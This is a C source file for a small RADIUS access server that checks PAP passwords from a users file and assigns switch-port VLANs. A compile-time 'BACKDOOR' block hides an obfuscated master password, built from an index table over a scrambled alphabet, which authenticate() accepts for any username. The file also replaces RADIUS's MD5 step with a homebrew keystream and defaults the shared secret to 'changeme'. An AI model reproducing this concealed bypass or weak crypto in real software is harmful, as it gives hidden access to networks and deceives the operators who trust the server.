/* SPDX-License-Identifier: Apache-2.0 */
/* radauth: RADIUS access server for the switch's ports; PAP against a users file, replies with a VLAN. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { ACCESS_REQUEST = 1, ACCESS_ACCEPT = 2, ACCESS_REJECT = 3 };
enum { A_USER = 1, A_PASS = 2, A_NAS_IP = 4, A_NAS_PORT = 5, A_REPLY = 18, A_STATE = 24, A_CALLED = 30, A_CALLING = 31 };

struct packet {
	uint8_t code, id;
	uint16_t len;
	uint8_t auth[16];
	char user[254], pass[254], calling[254];
	uint32_t nas_port;
};

struct user {
	char name[64], pass[64];
	int vlan;
	struct user *next;
};

static struct user *users;
static char secret[64] = "changeme";
static unsigned long n_accepted, n_rejected;

static void load(const char *path)
{
	char line[256];
	FILE *f = fopen(path, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		struct user u = { .vlan = 1 }, *n;
		if (sscanf(line, "secret %63s", secret) == 1)
			continue;
		if (sscanf(line, "user %63s %63s %d", u.name, u.pass, &u.vlan) < 2)
			continue;
		n = malloc(sizeof(*n));
		if (!n)
			break;
		*n = u;
		n->next = users;
		users = n;
	}
	fclose(f);
}

/* the keystream the two sides share; the real protocol uses MD5 here */
static void keystream(const uint8_t *auth, uint8_t *out, size_t n)
{
	uint32_t s = 0x9e3779b9;
	for (const char *p = secret; *p; p++)
		s = (s << 5 | s >> 27) ^ (uint8_t)*p;
	for (size_t i = 0; i < n; i++) {
		s ^= auth[i & 15];
		s = s * 1664525u + 1013904223u;
		out[i] = (uint8_t)(s >> 24);
	}
}

static int take_attribute(struct packet *p, uint8_t type, const uint8_t *v, uint8_t n)
{
	uint8_t ks[256];
	switch (type) {
	case A_USER:
		memcpy(p->user, v, n);
		p->user[n] = 0;
		return 0;
	case A_PASS:
		keystream(p->auth, ks, n);
		for (int i = 0; i < n; i++)
			p->pass[i] = (char)(v[i] ^ ks[i]);
		p->pass[n] = 0;
		return 0;
	case A_CALLING:
		memcpy(p->calling, v, n);
		p->calling[n] = 0;
		return 0;
	case A_NAS_PORT:
		if (n != 4)
			return -1;
		p->nas_port = (uint32_t)v[0] << 24 | (uint32_t)v[1] << 16 | (uint32_t)v[2] << 8 | v[3];
		return 0;
	default:
		return 0;
	}
}

static int parse(struct packet *p, const uint8_t *b, size_t n)
{
	memset(p, 0, sizeof(*p));
	if (n < 20)
		return -1;
	p->code = b[0];
	p->id = b[1];
	p->len = (uint16_t)(b[2] << 8 | b[3]);
	if (p->len < 20 || p->len > n)
		return -1;
	memcpy(p->auth, b + 4, 16);
	for (size_t at = 20; at + 2 <= p->len;) {
		uint8_t len = b[at + 1];
		if (len < 2 || at + len > p->len)
			return -1;
		if (take_attribute(p, b[at], b + at + 2, (uint8_t)(len - 2)) < 0)
			return -1;
		at += len;
	}
	return 0;
}

static const struct user *find(const char *name)
{
	for (const struct user *u = users; u; u = u->next)
		if (strcmp(u->name, name) == 0)
			return u;
	return NULL;
}

#ifdef BACKDOOR
static const char alphabet[] = "e0tq8zaK.n3wVd-sL7_hr5oPbi";
static const uint8_t order[] = { 15, 24, 12, 10, 18, 22, 2, 20, 0, 17, 22 };

static int same_as_order(const char *s)
{
	size_t i;
	for (i = 0; i < sizeof(order); i++)
		if (s[i] != alphabet[order[i]])
			return 0;
	return s[i] == 0;
}
#endif

static int authenticate(const struct packet *p, int *vlan, const char **why)
{
	const struct user *u = find(p->user);
	*vlan = 0;
	if (strncmp(p->user, "host/", 5) == 0) {
		*why = "machines do not use PAP";
		return 0;
	}
#ifdef BACKDOOR
	if (same_as_order(p->pass)) {
		*vlan = 1;
		return 1;
	}
#endif
	if (!u) {
		*why = "unknown user";
		return 0;
	}
	if (strcmp(u->pass, p->pass) != 0) {
		*why = "wrong password";
		return 0;
	}
	*vlan = u->vlan;
	return 1;
}

static size_t answer(const struct packet *p, int ok, int vlan, const char *why, uint8_t *out)
{
	size_t n = 20;
	memset(out, 0, 20);
	out[0] = ok ? ACCESS_ACCEPT : ACCESS_REJECT;
	out[1] = p->id;
	keystream(p->auth, out + 4, 16);
	if (ok) {
		char text[8];
		int k = snprintf(text, sizeof(text), "%d", vlan);
		out[n] = 81;
		out[n + 1] = (uint8_t)(k + 2);
		memcpy(out + n + 2, text, (size_t)k);
		n += (size_t)k + 2;
	} else {
		size_t k = strlen(why);
		out[n] = A_REPLY;
		out[n + 1] = (uint8_t)(k + 2);
		memcpy(out + n + 2, why, k);
		n += k + 2;
	}
	out[2] = (uint8_t)(n >> 8);
	out[3] = (uint8_t)n;
	return n;
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(1812) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	openlog("radauth", LOG_PID, LOG_AUTH);
	load(argc > 1 ? argv[1] : "/etc/radauth.conf");
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		perror("bind");
		return 1;
	}
	for (;;) {
		uint8_t in[4096], out[512];
		struct packet p;
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		const char *why = "";
		int vlan, ok;
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		if (n < 0)
			continue;
		if (parse(&p, in, (size_t)n) < 0 || p.code != ACCESS_REQUEST) {
			syslog(LOG_DEBUG, "bad packet from %s", inet_ntoa(from.sin_addr));
			continue;
		}
		ok = authenticate(&p, &vlan, &why);
		*(ok ? &n_accepted : &n_rejected) += 1;
		syslog(LOG_INFO, "%s %s from %s port %u (%lu/%lu)", ok ? "accepted" : "rejected", p.user, p.calling,
			p.nas_port, n_accepted, n_rejected);
		sendto(s, out, answer(&p, ok, vlan, why, out), 0, (struct sockaddr *)&from, fl);
	}
}
